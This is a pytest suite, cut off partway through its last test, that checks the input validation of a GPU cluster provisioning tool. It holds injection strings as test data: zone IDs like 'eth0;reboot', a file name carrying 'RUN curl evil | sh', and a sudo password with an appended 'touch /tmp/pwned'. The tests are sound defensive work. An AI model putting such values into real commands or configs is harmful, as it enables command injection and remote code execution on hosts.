"""Values stay data and files stay files: every bad input is exit 2 naming where it was written, before any host
is contacted and with nothing written (issue 17, item 11; and item 9's textfile_dir, item 10's ca_file).

Hosts are unreachable TEST-NET addresses and the executor (the only way to a host) is replaced by a recorder, so
nothing leaves this machine. A pipe or /dev/zero given as an input must be refused without being read: each such
test runs under an alarm, so a read that blocks or never ends fails the test instead of hanging it."""

from __future__ import annotations

import contextlib
import math
import os
import signal
import stat
import textwrap
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from invoke import Config, Context
from invoke.exceptions import Exit

from gpuprov.core.config import file_errors
from gpuprov.core.errors import InputError
from gpuprov.core.known_hosts import KnownHostsError, read_known_hosts
from gpuprov.images.spec import SpecError, load_spec
from gpuprov.inventory import InventoryError, load_inventory
from gpuprov.inventory.checks import ZONE, NotRegular, ip_address, network, read_regular
from gpuprov.inventory.model import is_valid_address
from gpuprov.stack.lock import LockError, load_lock
from gpuprov.tasks import facts as facts_tasks
from gpuprov.tasks import images as images_tasks
from gpuprov.tasks import provision as provision_tasks
from gpuprov.tasks import stack as stack_tasks
from gpuprov.tasks import validate as validate_tasks
from gpuprov.validation.suite_config import validate_vars

INVENTORY = textwrap.dedent("""\
    groups:
      hgx:
        vars:
          hardware: {gpu: H100-SXM, count: 8, nvswitch: true}
    hosts:
      gpu01: {address: 192.0.2.11, groups: [hgx]}
      gpu02: {address: 192.0.2.12, groups: [hgx]}
    """)
FIXED = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@pytest.fixture(autouse=True)
def clean_environment(monkeypatch, tmp_path):
    for name in list(os.environ):
        if name.startswith("INVOKE_GPUPROV_"):
            monkeypatch.delenv(name)


@pytest.fixture
def contacted(monkeypatch) -> list:
    """Every call of the executor: it must stay empty for bad input."""
    import gpuprov.core.executor

    calls: list = []
    monkeypatch.setattr(gpuprov.core.executor, "run_on_hosts", lambda hosts, *a, **k: calls.append(hosts) or [])
    monkeypatch.setattr(gpuprov.core.executor, "connect", lambda host, *a, **k: calls.append([host]))
    return calls


def context(tmp_path: Path, inventory: str = INVENTORY, **overrides) -> Context:
    path = tmp_path / "inventory.yaml"
    path.write_text(inventory)
    return Context(Config(overrides={"gpuprov": {
        "inventory": str(path), "reports": str(tmp_path / "reports"), "locks": str(tmp_path / "locks"),
        "known_hosts": str(tmp_path / "known_hosts"), "wheelhouse": str(tmp_path / "wheelhouse"), **overrides}}))


def bad_input(task, c, capsys, **kwargs) -> str:
    """stderr of a task that must refuse its input: exit 2."""
    with pytest.raises(Exit) as caught:
        task(c, **kwargs)
    err = capsys.readouterr().err
    assert caught.value.code == 2, err
    return err


@contextlib.contextmanager
def within(seconds: int):
    """Fail instead of hanging: a read of a pipe with no writer, or of /dev/zero, never returns on its own."""
    def expired(signum, frame):
        raise AssertionError(f"still reading after {seconds} s: the input was read instead of refused")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def inventory_errors(tmp_path: Path, text: str) -> list[str]:
    path = tmp_path / "inv.yaml"
    path.write_text(textwrap.dedent(text))
    with pytest.raises(InventoryError) as caught:
        load_inventory(path)
    assert caught.value.exit_code == 2
    return caught.value.errors


# ------------------------------------------------------------------------------------------ IPv6 zone IDs

ZONE_TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), min_size=1, max_size=30)


@FIXED
@given(zone=ZONE_TEXT)
def test_a_zone_is_an_interface_name_or_the_address_is_refused(zone):
    text = f"fe80::1%{zone}"
    interface = bool(ZONE.fullmatch(zone))
    assert (ip_address(text) is not None) == interface
    assert is_valid_address(text) == interface
    assert not is_valid_address(text, zone=False)


@FIXED
@given(zone=ZONE_TEXT)
def test_a_cidr_never_has_a_zone(zone):
    for text in (f"fe80::%{zone}/64", f"fe80::1%{zone}"):
        assert network(text)[0] is None


@pytest.mark.parametrize("zone", ["eth0\nnft flush ruleset", "x y", "eth0;reboot", "a" * 16, "eth0/8"])
def test_an_address_with_a_hostile_zone_is_a_located_error(tmp_path, zone):
    errors = inventory_errors(tmp_path, f"hosts:\n  gpu01: {{address: {yaml.safe_dump(f'fe80::1%{zone}').strip()}}}\n")
    assert len(errors) == 1 and ":2:" in errors[0] and "hosts.gpu01.address: bad address" in errors[0]


def test_an_interface_zone_is_kept_as_a_host_address(tmp_path):
    path = tmp_path / "inv.yaml"
    path.write_text("hosts:\n  gpu01: {address: 'fe80::1%enp1s0f0'}\n")
    assert load_inventory(path).host("gpu01").address == "fe80::1%enp1s0f0"


@pytest.mark.parametrize(("variable", "key"), [
    ("cluster_cidrs: ['fe80::%eth0/64']", "cluster_cidrs[0]"),
    ("monitoring_cidrs: ['fe80::1%eth0']", "monitoring_cidrs[0]"),
    ("firewall: {allow: [{port: 22, sources: ['fe80::%eth0\\nx/64']}]}", "firewall.allow[0].sources[0]"),
    ("monitoring_address: 'fe80::1%eth0'", "monitoring_address"),
    ("mirror: {url: 'http://[fe80::1%25eth0]/nvidia/'}", "mirror.url"),
    ("cluster_address: 'fe80::1%eth0'", "cluster_address"),
])
def test_a_zone_where_other_hosts_use_the_address_is_refused(tmp_path, variable, key):
    errors = inventory_errors(tmp_path, f"hosts:\n  gpu01:\n    address: 10.0.0.1\n    vars: {{{variable}}}\n")
    assert len(errors) == 1 and f"hosts.gpu01.vars.{key}:" in errors[0], errors


# ------------------------------------------------------------------------------------ files stay files

def fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


def link_to_zero(path: Path) -> Path:
    path.symlink_to("/dev/zero")
    return path


@pytest.mark.parametrize("make", [fifo, link_to_zero], ids=["fifo", "link-to-dev-zero"])
def test_read_regular_refuses_what_is_not_a_regular_file_without_reading_it(tmp_path, make):
    path = make(tmp_path / "input")
    with within(5), pytest.raises(NotRegular, match="not a regular file"):
        read_regular(path, 1024)


def test_read_regular_is_bounded_and_reads_a_regular_file(tmp_path):
    path = tmp_path / "f"
    path.write_bytes(b"x" * 100)
    assert read_regular(path, 100) == b"x" * 100
    with pytest.raises(NotRegular) as caught:
        read_regular(path, 99)
    assert caught.value.size == 100


@pytest.mark.parametrize("make", [fifo, link_to_zero], ids=["fifo", "link-to-dev-zero"])
def test_an_inventory_that_is_not_a_regular_file_is_exit_2(tmp_path, capsys, contacted, make):
    path = make(tmp_path / "inventory.yaml")
    c = Context(Config(overrides={"gpuprov": {"known_hosts": str(tmp_path / "kh")}}))
    with within(5):
        err = bad_input(facts_tasks.facts, c, capsys, all=True, inventory=str(path))
    assert f"inventory {path} is not a regular file" in err and contacted == []


@pytest.mark.parametrize("make", [fifo, link_to_zero], ids=["fifo", "link-to-dev-zero"])
def test_known_hosts_lock_and_config_files_that_are_not_regular_are_refused(tmp_path, make):
    with within(5):
        with pytest.raises(KnownHostsError, match="not a regular file"):
            read_known_hosts(make(tmp_path / "known_hosts"))
        with pytest.raises(LockError):
            load_lock(make(tmp_path / "gpu01.lock.yaml"))
        assert file_errors(make(tmp_path / "invoke.yaml")) == [f"{tmp_path / 'invoke.yaml'}: not a file"]


@pytest.mark.parametrize("make", [fifo, link_to_zero], ids=["fifo", "link-to-dev-zero"])
def test_an_image_spec_that_is_not_a_regular_file_is_refused(tmp_path, make):
    with within(5), pytest.raises(SpecError, match="not a regular file"):
        load_spec(make(tmp_path / "train.yaml"))


@pytest.mark.parametrize("make", [fifo, link_to_zero], ids=["fifo", "link-to-dev-zero"])
def test_a_mirror_ca_file_that_is_not_a_regular_file_is_refused(tmp_path, make):
    make(tmp_path / "ca.pem")
    with within(5):
        errors = inventory_errors(tmp_path, "hosts:\n  gpu01:\n    address: 10.0.0.1\n"
                                            "    vars: {mirror: {url: 'http://m/', ca_file: ca.pem}}\n")
    assert len(errors) == 1 and "mirror.ca_file: ca_file" in errors[0] and "not a regular file" in errors[0]


# ---------------------------------------------------------------------------------------- private keys

PRIVATE = ["-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----\n",
           "-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----\n",
           "-----BEGIN EC PRIVATE KEY-----\nMHc\n-----END EC PRIVATE KEY-----\n",
           "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Bl\n-----END OPENSSH PRIVATE KEY-----\n",
           "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQ\n-----END PGP PRIVATE KEY BLOCK-----\n"]
CERT = "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"


@pytest.mark.parametrize("key", PRIVATE)
@pytest.mark.parametrize("setting", ["ca_file", "key_file"])
def test_a_mirror_file_with_a_private_key_is_refused(tmp_path, key, setting):
    (tmp_path / "f.pem").write_text(CERT + key)
    errors = inventory_errors(tmp_path, "hosts:\n  gpu01:\n    address: 10.0.0.1\n"
                                        f"    vars: {{mirror: {{url: 'http://m/', {setting}: f.pem}}}}\n")
    assert len(errors) == 1 and f"mirror.{setting}:" in errors[0] and "holds a private key" in errors[0]


def test_a_mirror_ca_file_with_certificates_only_is_kept(tmp_path):
    (tmp_path / "ca.pem").write_text(CERT * 2)
    path = tmp_path / "inv.yaml"
    path.write_text("hosts:\n  gpu01: {address: 10.0.0.1, vars: {mirror: {url: 'http://m/', ca_file: ca.pem}}}\n")
    assert load_inventory(path).host("gpu01").var("mirror.ca_file") == str(tmp_path / "ca.pem")


def test_real_openssl_private_keys_are_refused_as_ca_file(tmp_path):
    """The judge is OpenSSL's own output (through the cryptography package), not a text gpuprov wrote."""
    from cryptography.hazmat.primitives import serialization  # paramiko's own dependency
    from cryptography.hazmat.primitives.asymmetric import ec, ed25519

    for key in (ec.generate_private_key(ec.SECP256R1()), ed25519.Ed25519PrivateKey.generate()):
        for encoding in (serialization.PrivateFormat.PKCS8, serialization.PrivateFormat.OpenSSH):
            pem = key.private_bytes(serialization.Encoding.PEM, encoding, serialization.NoEncryption())
            (tmp_path / "ca.pem").write_bytes(CERT.encode() + pem)
            errors = inventory_errors(tmp_path, "hosts:\n  gpu01:\n    address: 10.0.0.1\n"
                                                "    vars: {mirror: {url: 'http://m/', ca_file: ca.pem}}\n")
            assert "holds a private key" in errors[0]


# ------------------------------------------------------------------------------------- empty selectors

@pytest.mark.parametrize(("kwargs", "flag"), [
    ({"host": [""]}, "--host"), ({"host": ["gpu01,,gpu02"]}, "--host"), ({"group": [""]}, "--group"),
    ({"host": ["gpu01"], "group": [" "]}, "--group"), ({"host": ["gpu01,"]}, "--host"),
])
@pytest.mark.parametrize("task", [facts_tasks.facts, provision_tasks.provision, stack_tasks.check,
                                  validate_tasks.validate])
def test_an_empty_host_or_group_name_is_refused(tmp_path, capsys, contacted, kwargs, flag, task):
    err = bad_input(task, context(tmp_path), capsys, **kwargs)
    assert f"{flag} " in err and "has an empty name" in err
    assert contacted == [] and not (tmp_path / "reports").exists()


@pytest.mark.parametrize("names", [[""], ["train,"], [" "]])
def test_an_empty_image_name_does_not_select_every_image(tmp_path, capsys, names):
    err = bad_input(images_tasks.list_, context(tmp_path), capsys, name=names)
    assert "--name " in err and "has an empty name" in err


@pytest.mark.parametrize("only", ["", ",", "host.ecc,"])
def test_an_empty_only_does_not_run_every_check(tmp_path, capsys, contacted, only):
    err = bad_input(validate_tasks.validate, context(tmp_path), capsys, all=True, only=only)
    assert "--only " in err and "has an empty name" in err and contacted == []


def test_an_empty_image_for_stack_lock_is_refused(tmp_path, capsys, contacted):
    err = bad_input(stack_tasks.lock, context(tmp_path), capsys, group=["hgx"], os="ubuntu-22.04", image="")
    assert "--image '' has an empty name" in err and not (tmp_path / "locks").exists()


# ---------------------------------------------------------------------------------- validate, on the controller

@pytest.mark.parametrize("only", ["host.nope", "bogus,host.ecc", "hosts"])
def test_only_names_a_check_of_the_suite_before_any_host(tmp_path, capsys, contacted, only):
    err = bad_input(validate_tasks.validate, context(tmp_path), capsys, all=True, only=only)
    assert "no such check" in err and "host.ecc" in err and contacted == []


@pytest.mark.parametrize(("variables", "words"), [
    ("validate: {threshold_pct: 101}", "validate.threshold_pct"),
    ("validate: {threshold_pct: .nan}", "NaN and infinity"),
    ("validate: {outlier_pct: .inf}", "NaN and infinity"),
    ("validate: {threshold_pct: {H100-SXM: .nan}}", "validate.threshold_pct.H100-SXM"),
    ("validate: {burn_in_seconds: 1e300}", "validate.burn_in_seconds"),
    ("validate: {shm_min_gib: -.inf}", "validate.shm_min_gib"),
    ("validate: {sizing: {cpu_cores_per_gpu: .nan}}", "validate.sizing.cpu_cores_per_gpu"),
    ("validate: {torch_index: 'file:///srv/wheels'}", "validate.torch_index"),
    ("validate: {torch_index: 'download.pytorch.org/whl/cu128'}", "validate.torch_index"),
    ("validate: {textfile_dir: /tmp/prom}", "every user may write into"),
    ("validate: {textfile_dir: /var/tmp}", "every user may write into"),
    ("validate: {textfile_dir: /dev/shm/x}", "every user may write into"),
    ("validate: {image_ulimits: {memlock: 99999999999999999999999}}", "validate.image_ulimits.memlock"),
    ("cluster_address: 'fe80::1%eth0'", "cluster_address"),
])
def test_bad_validate_variables_are_exit_2_before_any_host(tmp_path, capsys, contacted, variables, words):
    inventory = INVENTORY.replace("  gpu02: {address: 192.0.2.12, groups: [hgx]}",
                                  f"  gpu02: {{address: 192.0.2.12, groups: [hgx], vars: {{{variables}}}}}")
    assert inventory != INVENTORY
    err = bad_input(validate_tasks.validate, context(tmp_path, inventory), capsys, all=True)
    assert "gpu02" in err and words in err
    assert contacted == [] and not (tmp_path / "reports").exists()


@FIXED
@given(value=st.one_of(st.floats(allow_nan=True, allow_infinity=True), st.integers(-10**30, 10**30)))
@example(value=math.nan)
@example(value=-math.inf)
@example(value=100.0000001)
def test_a_percent_is_a_finite_number_above_0_and_at_most_100(tmp_path, value):
    path = tmp_path / "inv.yaml"
    path.write_text(yaml.safe_dump({"hosts": {"gpu01": {"address": "10.0.0.1",
                                                        "vars": {"validate": {"threshold_pct": value}}}}}))
    if math.isfinite(value) and 0 < value <= 100:
        assert validate_vars(load_inventory(path).host("gpu01")).threshold_pct == float(value)
    else:
        with pytest.raises(InventoryError) as caught:
            load_inventory(path)
        (error,) = caught.value.errors
        assert error.startswith(f"{path}:6:") and "hosts.gpu01.vars.validate.threshold_pct: must be a number" in error


# ------------------------------------------------------------------------------------------ ports, timeouts

@pytest.mark.parametrize("registry", ["127.0.0.1:99999", "registry.example.com:0/team", "h:65536"])
def test_a_registry_port_out_of_range_is_refused(tmp_path, capsys, registry):
    err = bad_input(images_tasks.bake, context(tmp_path), capsys, registry=registry,
                    output=str(tmp_path / "bake.json"))
    assert "out of range" in err and not (tmp_path / "bake.json").exists()


def test_a_registry_variable_with_a_port_out_of_range_is_refused(tmp_path):
    line = "  gpu01: {address: 10.0.0.1, vars: {images: {registry: '10.0.0.5:70000'}}}"
    errors = inventory_errors(tmp_path, f"hosts:\n{line}\n")
    col = line.index("'10") + 1
    assert errors == [f"{tmp_path}/inv.yaml:2:{col}: hosts.gpu01.vars.images.registry: must be a registry address "
                      "like host:5000, not '10.0.0.5:70000'"]


@pytest.mark.parametrize(("name", "value"), [
    ("CONNECT_TIMEOUT", "99999999999"), ("COMMAND_TIMEOUT", str(10**12)), ("CONFIRM_TIMEOUT", "86401"),
    ("CONNECT_RETRIES", "1000000"), ("PARALLEL", "100000000"),
])
def test_timeouts_beyond_what_timers_hold_are_refused(tmp_path, capsys, contacted, monkeypatch, name, value):
    monkeypatch.setenv(f"INVOKE_GPUPROV_{name}", value)
    err = bad_input(facts_tasks.facts, context(tmp_path), capsys, all=True)
    assert err.startswith(f"error: INVOKE_GPUPROV_{name}: must be at most ") and contacted == []


def test_a_confirm_timeout_flag_beyond_a_day_is_refused(tmp_path, capsys, contacted):
    from gpuprov.tasks import harden as harden_tasks

    err = bad_input(harden_tasks.harden, context(tmp_path), capsys, all=True, confirm_timeout="9" * 30)
    assert "--confirm-timeout must be a whole number from 15 to 86400" in err and contacted == []


def test_a_parallel_flag_beyond_what_threads_hold_is_refused(tmp_path, capsys, contacted):
    err = bad_input(facts_tasks.facts, context(tmp_path), capsys, all=True, parallel="9" * 30)
    assert "--parallel must be a whole number from 1 to 4096" in err and contacted == []


@pytest.mark.parametrize("duration", ["99999999999999999999h", "0s", "9000000h"])
def test_a_healthcheck_duration_beyond_a_year_is_refused(tmp_path, duration):
    (tmp_path / "svc.yaml").write_text(textwrap.dedent(f"""\
        name: svc
        purpose: inference
        base: {{ngc: "25.04"}}
        user: {{name: app, uid: 1000, gid: 1000}}
        ports: [8000]
        healthcheck: {{test: [python3, -c, "0"], interval: {duration}}}
        """))
    with pytest.raises(SpecError) as caught:
        load_spec(tmp_path / "svc.yaml")
    assert any("healthcheck.interval: bad duration" in line for line in caught.value.errors), caught.value.errors


# ------------------------------------------------------------------------------------------------- URLs

@pytest.mark.parametrize("url", ["file:///etc/passwd", "mirror.internal/nvidia/", "ftp://m/", "http://m:99999/",
                                 "http://m/\nx", "//m/nvidia/"])
@pytest.mark.parametrize("key", ["url", "proxy"])
def test_a_mirror_url_is_http_or_https(tmp_path, url, key):
    value = yaml.safe_dump(url).splitlines()[0] if "\n" not in url else '"http://m/\\nx"'
    mirror = f"{{url: 'http://m/', proxy: {value}}}" if key == "proxy" else f"{{url: {value}}}"
    errors = inventory_errors(tmp_path, f"hosts:\n  gpu01:\n    address: 10.0.0.1\n    vars: {{mirror: {mirror}}}\n")
    assert len(errors) == 1 and f"mirror.{key}: bad URL" in errors[0]


@pytest.mark.parametrize("url", ["file:///etc/passwd", "127.0.0.1:9090"])
def test_the_prometheus_url_is_http_or_https(tmp_path, capsys, contacted, url):
    from gpuprov.tasks import monitoring as monitoring_tasks

    err = bad_input(monitoring_tasks.idle, context(tmp_path), capsys, prometheus=url)
    assert "--prometheus: bad URL" in err and contacted == []


@pytest.mark.parametrize("threshold", ["101", "1e9"])
def test_an_idle_threshold_above_100_percent_is_refused(tmp_path, capsys, threshold):
    from gpuprov.tasks import monitoring as monitoring_tasks

    err = bad_input(monitoring_tasks.idle, context(tmp_path), capsys, threshold=threshold,
                    prometheus="http://127.0.0.1:1")
    assert "--threshold is a percentage" in err


# ------------------------------------------------------------------------------------------- output paths

def test_a_bake_output_that_is_a_folder_or_under_a_file_is_exit_2(tmp_path, capsys):
    (tmp_path / "file").write_text("keep\n")
    err = bad_input(images_tasks.bake, context(tmp_path), capsys, output=str(tmp_path))
    assert f"--output: {tmp_path} is a folder, not a file" in err
    err = bad_input(images_tasks.bake, context(tmp_path), capsys, output=str(tmp_path / "file" / "bake.json"))
    assert f"--output: cannot write {tmp_path}/file/bake.json: {tmp_path}/file is a file, not a folder" in err
    assert (tmp_path / "file").read_text() == "keep\n"


def test_a_bake_output_with_a_line_break_is_exit_2(tmp_path, capsys):
    err = bad_input(images_tasks.bake, context(tmp_path), capsys, output=str(tmp_path / "a\nb.json"))
    assert "--output: must be a path without control characters" in err
    assert list(tmp_path.iterdir()) == [tmp_path / "inventory.yaml"]


def test_monitoring_out_paths_are_exit_2_naming_the_flag(tmp_path, capsys):
    from gpuprov.tasks import monitoring as monitoring_tasks

    (tmp_path / "o1").mkdir()
    (tmp_path / "o1" / "targets").write_text("")
    (tmp_path / "o2" / "prometheus-scrape.yml").mkdir(parents=True)
    c = context(tmp_path)
    err = bad_input(monitoring_tasks.targets, c, capsys, out=str(tmp_path / "o1"))
    assert f"--out: cannot write {tmp_path}/o1/targets/" in err and "is a file, not a folder" in err
    err = bad_input(monitoring_tasks.targets, c, capsys, out=str(tmp_path / "o2"))
    assert f"--out: {tmp_path}/o2/prometheus-scrape.yml is a folder, not a file" in err
    err = bad_input(monitoring_tasks.dashboard, c, capsys, out=str(tmp_path / "missing" / "d.json"))
    assert f"--out: cannot write {tmp_path}/missing/d.json: the folder {tmp_path}/missing does not exist" in err
    err = bad_input(monitoring_tasks.targets, c, capsys, out=str(tmp_path / "o1" / "targets" / "x"))
    assert "INVOKE_GPUPROV_--OUT" not in err and "give --out another folder" in err


def test_a_textfile_folder_in_the_reports_that_is_a_file_is_exit_2_before_any_host(tmp_path, capsys, contacted):
    (tmp_path / "reports").mkdir()
    (tmp_path / "reports" / "textfile").write_text("")
    err = bad_input(validate_tasks.validate, context(tmp_path), capsys, all=True)
    assert f"gpuprov.reports: cannot write {tmp_path}/reports/textfile/gpu01.prom" in err and contacted == []


@pytest.mark.parametrize("key", ["reports", "locks", "wheelhouse", "inventory", "known_hosts"])
def test_a_path_setting_with_a_control_character_is_exit_2_naming_it(tmp_path, capsys, contacted, monkeypatch, key):
    monkeypatch.setenv(f"INVOKE_GPUPROV_{key.upper()}", str(tmp_path / "x\ny"))
    err = bad_input(facts_tasks.facts, context(tmp_path), capsys, all=True)
    assert err.startswith(f"error: INVOKE_GPUPROV_{key.upper()}: must be a path (a non-empty string) without "
                          "control characters")
    assert contacted == []


# ------------------------------------------------------------------------------------ names and the YAML

def test_a_host_name_too_long_for_a_lock_file_is_a_located_error(tmp_path):
    long = ".".join(["a" * 62] * 4)  # 251 characters: an RFC 1123 name, but no file name holds NAME.lock.yaml
    errors = inventory_errors(tmp_path, f"hosts:\n  {long}: {{address: 10.0.0.1}}\n")
    assert len(errors) == 1 and ":2:3:" in errors[0] and "locks/NAME.lock.yaml" in errors[0]


def test_the_longest_host_name_has_a_lock_path_the_system_takes(tmp_path):
    from gpuprov.inventory.levels import MAX_HOST_NAME
    from gpuprov.stack.lock import lock_path_for

    name = "a" * MAX_HOST_NAME
    path = tmp_path / "inv.yaml"
    path.write_text(f"hosts:\n  {name}: {{address: 10.0.0.1}}\n")
    host = load_inventory(path).host(name)
    assert lock_path_for(host, tmp_path) is None  # the system answered (no OSError: name too long)
    (tmp_path / f"{name}.lock.yaml").write_text("")
    assert lock_path_for(host, tmp_path) == tmp_path / f"{name}.lock.yaml"


@pytest.mark.parametrize("text", ["hosts:\n  gpu01:\n\taddress: 10.0.0.1\n", "hosts:\n\tgpu01: {address: 10.0.0.1}\n"])
def test_a_tab_in_yaml_indentation_is_named_as_a_tab(tmp_path, text):
    errors = inventory_errors(tmp_path, text)
    assert errors == [f"{tmp_path / 'inv.yaml'}:{text.count(chr(10), 0, text.index(chr(9))) + 1}:1: (file): YAML "
                      "syntax error: a tab character; YAML indents with spaces, not tabs: replace the tab with spaces"]


@pytest.mark.parametrize("name", ["a\nRUN curl evil | sh #.yaml", "x y.yaml", "-x.yaml", "é.yaml"])
def test_a_spec_file_name_cannot_reach_the_dockerfile(tmp_path, name):
    (tmp_path / name).write_text("name: x\n")
    with pytest.raises(SpecError, match="bad spec file name"):
        load_spec(tmp_path / name)


def test_the_shipped_specs_all_have_plain_names():
    from gpuprov.images import SHIPPED_SPECS
    from gpuprov.images.spec import FILE_NAME

    names = [p.name for p in Path(SHIPPED_SPECS).glob("*.yaml")]
    assert names and all(FILE_NAME.fullmatch(n) for n in names)


# ---------------------------------------------------------------------------------------- sudo password

@pytest.mark.parametrize("task", [facts_tasks.facts, provision_tasks.provision, stack_tasks.check,
                                  validate_tasks.validate])
def test_a_missing_sudo_password_variable_is_exit_2_from_every_task(tmp_path, capsys, contacted, monkeypatch,
                                                                     task):
    monkeypatch.delenv("GPU_SUDO_PW", raising=False)
    inventory = INVENTORY.replace("groups:\n", "defaults: {user: gpuadmin, sudo: {password_env: GPU_SUDO_PW}}\n"
                                               "groups:\n")
    err = bad_input(task, context(tmp_path, inventory), capsys, all=True)
    assert "the sudo password variable is not set: GPU_SUDO_PW (for gpu01, gpu02)" in err
    assert contacted == [] and not (tmp_path / "reports").exists()


def test_a_sudo_password_with_a_line_break_is_exit_2_before_any_host(tmp_path, capsys, contacted, monkeypatch):
    monkeypatch.setenv("GPU_SUDO_PW", "hunter2\ntouch /tmp/pwned")
    inventory = INVENTORY.replace("groups:\n", "defaults: {user: gpuadmin, sudo: {password_env: GPU_SUDO_PW}}\n"
                                               "groups:\n")
    err = bad_input(facts_tasks.facts, context(tmp_path, inventory), capsys, all=True)
    assert "the sudo password in GPU_SUDO_PW has a line break or NUL" in err
    assert "hunter2" not in err and "pwned" not in err
    assert contacted == []


def test_stack_lock_from_the_inventory_alone_needs_no_sudo_password(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv("GPU_SUDO_PW", raising=False)
    inventory = INVENTORY.replace("groups:\n", "defaults: {sudo: {password_env: GPU_SUDO_PW}}\ngroups:\n")
    stack_tasks.lock(context(tmp_path, inventory), group=["hgx"], os="ubuntu-22.04")
    assert stat.S_ISREG((tmp_path / "locks" / "hgx.lock.yaml").stat().st_mode)



def test_a_host_reached_at_an_interface_zone_is_still_validated(tmp_path):
    path = tmp_path / "inv.yaml"
    path.write_text("hosts:\n  gpu01: {address: 'fe80::1%eth0'}\n")
    assert validate_vars(load_inventory(path).host("gpu01")).cluster_address == "fe80::1%eth0"


def test_an_inventory_path_with_a_nul_is_exit_2(tmp_path, capsys, contacted):
    err = bad_input(facts_tasks.facts, context(tmp_path), capsys, all=True, inventory=f"{tmp_path}/a\0b")
    assert "a path cannot hold a NUL character" in err and contacted == []


def test_lab_up_refuses_more_hosts_than_the_lab_network_holds(tmp_path, capsys, monkeypatch):
    import gpuprov.lab
    from gpuprov.tasks import lab as lab_tasks

    monkeypatch.setattr(gpuprov.lab, "up", lambda *a, **k: pytest.fail("the lab was started"))
    err = bad_input(lab_tasks.up, context(tmp_path), capsys, hosts="100000")
    assert "--hosts must be a whole number from 1 to 100" in err
    err = bad_input(lab_tasks.up, context(tmp_path), capsys, hosts="2", profile=["l40s,"])
    assert "--profile 'l40s,' has an empty name" in err


@pytest.mark.parametrize("blocker", ["folder-is-a-file", "record-is-a-folder"])
def test_a_build_folder_in_the_way_is_exit_2_before_anything_is_written(tmp_path, blocker):
    from gpuprov.images.render import render
    from gpuprov.images.spec import load_specs

    image = next(i for i in load_specs() if i.base.kind != "local")
    output = tmp_path / "images"
    if blocker == "folder-is-a-file":
        output.write_text("keep\n")
        expected = f"{output} is a file, not a folder"
    else:
        (output / f"{image.id}.json").mkdir(parents=True)
        expected = f"{output / image.id}.json is a folder, not a file"
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(InputError) as caught:
        render(image, output=output)
    assert caught.value.exit_code == 2 and expected in caught.value.message
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize(("task", "kwargs", "latest"), [
    (provision_tasks.provision, {"all": True}, "provision-latest.json"),
    (validate_tasks.validate, {"all": True}, "validate-latest.json"),
    (validate_tasks.validate, {"all": True}, "validate-latest.xml"),
])
def test_a_folder_where_the_latest_report_goes_is_exit_2_before_any_host(tmp_path, capsys, contacted, task, kwargs,
                                                                        latest):
    (tmp_path / "reports" / latest).mkdir(parents=True)
    err = bad_input(task, context(tmp_path), capsys, **kwargs)
    assert f"gpuprov.reports: {tmp_path}/reports/{latest} is a folder, not a file" in err and contacted == []


def test_a_tab_in_an_invoke_yaml_is_named_as_a_tab(tmp_path):
    (tmp_path / "invoke.yaml").write_text("gpuprov:\n\tparallel: 3\n")
    assert file_errors(tmp_path / "invoke.yaml") == [
        f"{tmp_path / 'invoke.yaml'}:2:1: (file): YAML syntax error: a tab character; YAML indents with spaces, "
        "not tabs: replace the tab with spaces"]


def test_a_tab_in_an_image_spec_is_named_as_a_tab(tmp_path):
    (tmp_path / "svc.yaml").write_text("name: svc\nuser:\n\tname: app\n")
    with pytest.raises(SpecError) as caught:
        load_spec(tmp_path / "svc.yaml")
    assert caught.value.errors == [f"{tmp_path / 'svc.yaml'}:3:1: (file): YAML syntax error: a tab character; YAML "
                                   "indents with spaces, not tabs: replace the tab with spaces"]


def test_a_bake_output_that_is_a_pipe_is_refused_without_blocking(tmp_path, capsys):
    target = fifo(tmp_path / "bake.json")
    with within(5):
        err = bad_input(images_tasks.bake, context(tmp_path), capsys, output=str(target))
    assert f"--output: {target} is not a regular file (a device, a pipe or a socket)" in err


@FIXED
@given(text=st.lists(st.sampled_from(["hosts:", "a:", " ", "  ", "\t", "\n", "- ", "{", "}", "b", ":", "'"]),
                     max_size=30).map("".join))
def test_a_tab_error_points_at_a_tab_and_nothing_crashes(tmp_path_factory, text):
    path = tmp_path_factory.mktemp("tab") / "inv.yaml"
    path.write_text(text)
    try:
        load_inventory(path)
    except InventoryError as exc:
        for line in exc.errors:
            if "a tab character" in line:
                row, col = (int(part) for part in line.split(":")[1:3])
                assert text.split("\n")[row - 1][col - 1] == "\t"


@pytest.mark.parametrize(("text", "key"), [
    ("hosts:\n  gpu01: {address: 10.0.0.1, jump: 'admin@[fe80::1%eth0;id]:22'}\n", "hosts.gpu01.jump"),
    ("[gpus]\ngpu01 ansible_host=fe80::1%eth0;id\n", "gpu01"),
])
def test_a_hostile_zone_in_a_jump_host_or_an_ini_inventory_is_refused(tmp_path, text, key):
    path = tmp_path / ("inv.ini" if text.startswith("[") else "inv.yaml")
    path.write_text(text)
    with pytest.raises(InventoryError) as caught:
        load_inventory(path)
    assert len(caught.value.errors) == 1 and key in caught.value.errors[0] and ":2:" in caught.value.errors[0]


def test_a_folder_where_a_lock_file_goes_is_exit_2_before_any_host(tmp_path, capsys, contacted):
    (tmp_path / "locks" / "hgx.lock.yaml").mkdir(parents=True)
    err = bad_input(stack_tasks.lock, context(tmp_path), capsys, group=["hgx"])
    assert f"gpuprov.locks: {tmp_path}/locks/hgx.lock.yaml is a folder, not a file" in err and contacted == []


@pytest.mark.parametrize("folder", ["/tmp", "/tmp/prom/", "/var/tmp/x", "/dev/shm", "/run/lock/p"])
def test_a_world_writable_textfile_folder_is_refused_at_load_for_validate_and_monitoring_alike(tmp_path, folder):
